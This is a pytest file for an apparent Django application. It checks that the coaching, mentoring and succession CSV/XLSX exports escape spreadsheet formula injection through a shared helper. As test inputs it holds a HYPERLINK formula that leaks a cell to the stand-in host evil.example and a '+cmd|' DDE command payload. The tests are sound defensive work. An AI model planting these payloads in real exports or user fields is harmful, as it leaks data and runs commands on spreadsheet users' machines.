"""CSV formula injection: every CSV and XLSX export writes its cells through
`tandem.lib.csvsafe.neutralised`, so a name a person typed ("=HYPERLINK(...)") opens in
a spreadsheet as text, never as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tandem.api.testing import token_client
from tandem.coaching.tests.factories import CoachFactory, active
from tandem.insights import export as insights_export
from tandem.lib import csvsafe
from tandem.mentoring.tests import factories as mentoring
from tandem.mentoring.tests.relationship_fixtures import activate, propose
from tandem.tests.factories import enroll, running_program

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    """No cell starts with a character a spreadsheet reads as the start of a formula."""
    assert [cell for cell in cells if cell.startswith(csvsafe.FORMULA_STARTS)] == []


# --- the helper ------------------------------------------------------------------------------


@given(st.sampled_from(csvsafe.FORMULA_STARTS), st.text(max_size=30))
def test_it_prefixes_any_text_that_starts_like_a_formula(start, rest):
    assert csvsafe.neutralised(start + rest) == "'" + start + rest


@given(st.text(max_size=30).filter(lambda text: not text.startswith(csvsafe.FORMULA_STARTS)))
def test_it_leaves_other_text_as_it_is(text):
    assert csvsafe.neutralised(text) == text


@given(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), st.booleans()))
def test_it_leaves_numbers_and_empty_cells_as_they_are(value):
    assert csvsafe.neutralised(value) == value


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), max_size=5))
def test_its_writer_round_trips_every_cell_neutralised(rows):
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerows(rows)
    read = list(csv.reader(io.StringIO(buffer.getvalue())))
    # csv cannot tell an empty row from no row; compare the rows that hold a cell.
    expected = [[csvsafe.neutralised(cell) for cell in row] for row in rows if row != [""]]
    assert [row for row in read if row != [""]] == expected


def test_insights_keeps_using_the_one_helper():
    assert insights_export.neutralised is csvsafe.neutralised


def test_the_xlsx_writer_neutralises_text_cells():
    workbook = load_workbook(io.BytesIO(insights_export.xlsx_bytes([[FORMULA, -20.0, "@x"]])))
    assert [cell.value for cell in next(workbook.active.iter_rows())] == [
        "'" + FORMULA,
        -20.0,
        "'@x",
    ]


# --- each export -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_coaching_engagement_export_neutralises_names(client, org, program_admin):
    org.report.first_name = FORMULA
    org.report.save(update_fields=["first_name"])
    enroll(running_program(name="Leading with Coaching", kind="coaching"), org.report)
    coach = CoachFactory(user__first_name="@SUM(1+1)", user__last_name="")
    active(coach, org.report)
    client.force_login(program_admin)
    response = client.get(reverse("coaching:engagement-export"))
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert "'@SUM(1+1)" in cells
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert_no_formula(cells)


@pytest.mark.django_db
def test_the_mentoring_health_export_neutralises_names(client, org, program_admin):
    program = mentoring.mentoring_program(name="Health program")
    org.report.first_name = "+cmd|' /C calc'!A0"
    org.report.save(update_fields=["first_name"])
    mentoring.make_mentee(program, org.report)
    mentor = mentoring.make_mentor(
        program, mentoring.person("senior", first_name=FORMULA), capacity=2
    )
    activate(propose(program, org.report, mentor.person))
    client.force_login(program_admin)
    response = client.get(reverse("mentoring:health-export", args=[program.pk]))
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert "'+cmd|' /C calc'!A0 Report" in cells
    assert_no_formula(cells)


@pytest.mark.django_db
@pytest.mark.parametrize("via", ["page", "api"])
def test_the_succession_pipeline_export_writes_through_the_helper(
    client, program_admin, monkeypatch, via
):
    # The pipeline's rows are figure names and numbers; a label that looked like a
    # formula would still be written as text.
    rows = [["figure", "n", "value"], [FORMULA, 3, -0.5], ["-1", 1, 2]]
    if via == "page":
        monkeypatch.setattr("tandem.succession.views.pipeline.export_rows", lambda figures: rows)
        client.force_login(program_admin)
        response = client.get(reverse("succession:pipeline-csv"))
    else:
        monkeypatch.setattr("tandem.succession.api.pipeline.export_rows", lambda figures: rows)
        response = token_client(program_admin).get("/api/v1/succession/pipeline/export")
    assert response.status_code == 200
    read = list(csv.reader(io.StringIO(response.content.decode())))
    assert read == [["figure", "n", "value"], ["'" + FORMULA, "3", "-0.5"], ["'-1", "1", "2"]]


# --- no export can bypass the helper ---------------------------------------------------------

PACKAGE = Path(csvsafe.__file__).resolve().parent.parent
# Where a raw writer is allowed: the helper itself, and the impact export, which passes
# every cell through `neutralised` before its writer sees it.
RAW_WRITERS_ALLOWED = {"lib/csvsafe.py", "insights/export.py"}


def test_no_module_writes_csv_or_xlsx_without_the_helper():
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")
    offenders = sorted(
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts
        and str(path.relative_to(PACKAGE)) not in RAW_WRITERS_ALLOWED
        and raw.search(path.read_text(encoding="utf-8"))
    )
    assert offenders == [], "write CSV through tandem.lib.csvsafe.writer, cells through neutralised"
